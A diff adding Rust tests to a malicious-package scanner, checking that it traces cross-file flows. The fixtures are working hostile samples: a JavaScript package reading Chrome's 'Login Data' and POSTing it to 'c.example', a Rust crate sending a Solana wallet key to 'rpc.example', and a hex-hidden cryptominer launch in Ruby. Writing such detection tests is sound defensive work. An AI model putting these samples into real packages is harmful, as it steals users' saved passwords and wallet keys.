@@ -381,3 +381,131 @@ fn user_rule_directories_load_beside_the_shipped_set_and_fire() {
     let r = analyze_tree(pkg.path(), PackageRef::default(), None, &config);
     assert!(r.status_detail.contains("x.toml"), "{}", r.status_detail);
 }
+
+#[test]
+fn values_are_followed_into_and_out_of_another_file() {
+    // The stolen files are gathered in one module and sent from another:
+    // neither file alone holds the flow.
+    let collect = br#"
+const fs = require('fs'), os = require('os'), path = require('path');
+function roots() { return [path.join(os.homedir(), '.config', 'google-chrome')]; }
+function collect() {
+  const out = {};
+  for (const r of roots()) out[r] = fs.readFileSync(path.join(r, 'Default', 'Login Data')).toString('base64');
+  return out;
+}
+module.exports = { collect };
+"#;
+    let send = br#"
+const https = require('https');
+function upload(files) {
+  const req = https.request({ hostname: 'c.example', method: 'POST' });
+  req.end(JSON.stringify(files));
+}
+module.exports = { upload };
+"#;
+    let main = br#"
+const { collect } = require('./collect');
+const { upload } = require('./send');
+module.exports = function sync() { upload(collect()); };
+"#;
+    let result = analyse(
+        &[
+            (
+                "package/package.json",
+                br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#,
+            ),
+            ("package/index.js", main),
+            ("package/collect.js", collect),
+            ("package/send.js", send),
+        ],
+        Ecosystem::Npm,
+    );
+    let f = finding(&result, "threat.exfiltrate-credential-files")
+        .unwrap_or_else(|| panic!("no cross-file flow: {:?}", ids(&result)));
+    let e = &f.evidence[0];
+    assert!(
+        e.detail.contains("through upload()") && e.detail.contains("package/index.js"),
+        "{e:?}"
+    );
+
+    // The same files with the upload given something harmless: nothing.
+    let harmless = br#"
+const { upload } = require('./send');
+module.exports = function ping() { upload({ ok: true }); };
+"#;
+    let result = analyse(
+        &[
+            (
+                "package/package.json",
+                br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#,
+            ),
+            ("package/index.js", harmless),
+            ("package/send.js", send),
+        ],
+        Ecosystem::Npm,
+    );
+    assert!(
+        finding(&result, "threat.exfiltrate-credential-files").is_none(),
+        "{:?}",
+        ids(&result)
+    );
+}
+
+#[test]
+fn rust_modules_are_reached_and_followed() {
+    // `mod packer;` in lib.rs, `use crate::sink;` in packer.rs, and a
+    // buffer filled by a read from a connection.
+    let lib = b"mod packer;\nmod sink;\npub fn init() { packer::pack(); }\n";
+    let packer = br#"
+use std::fs;
+use crate::sink;
+pub fn pack() {
+    let home = std::env::var("HOME").unwrap_or_default();
+    let key = fs::read_to_string(format!("{}/.config/solana/id.json", home)).unwrap_or_default();
+    sink::post(&key);
+}
+"#;
+    let sink = br#"
+use std::io::Write;
+use std::net::TcpStream;
+pub fn post(body: &str) -> bool {
+    let mut s = match TcpStream::connect("rpc.example:80") { Ok(s) => s, Err(_) => return false };
+    s.write_all(body.as_bytes()).is_ok()
+}
+"#;
+    let result = analyse(
+        &[
+            (
+                "c-1.0.0/Cargo.toml",
+                b"[package]\nname = \"c\"\nversion = \"1.0.0\"\n",
+            ),
+            ("c-1.0.0/src/lib.rs", lib),
+            ("c-1.0.0/src/packer.rs", packer),
+            ("c-1.0.0/src/sink.rs", sink),
+        ],
+        Ecosystem::CratesIo,
+    );
+    let f = finding(&result, "threat.exfiltrate-credential-files")
+        .unwrap_or_else(|| panic!("{:?}", ids(&result)));
+    // packer.rs is reached from lib.rs: it runs when the crate is used.
+    assert_eq!(f.reachability(), Reachability::Import, "{f:?}");
+}
+
+#[test]
+fn decoded_text_counts_for_the_string_classes() {
+    // A miner's options hidden as hex: no code comes out, but what does
+    // names the miner.
+    let hidden = hex::encode("--donate-level 1 -o pool.example:3333 --cpu-max-threads-hint 50");
+    let code = format!(
+        "require 'open3'\nARGS = ['{hidden}'].pack('H*')\nOpen3.capture2('/tmp/.cache/kw', ARGS)\n"
+    );
+    let result = analyse(&[("lib/sample.rb", code.as_bytes())], Ecosystem::Rubygems);
+    let f = finding(&result, "threat.cryptominer").unwrap_or_else(|| panic!("{:?}", ids(&result)));
+    assert!(
+        f.evidence
+            .iter()
+            .any(|e| e.snippet.starts_with("decoded (hex)")),
+        "{f:?}"
+    );
+}
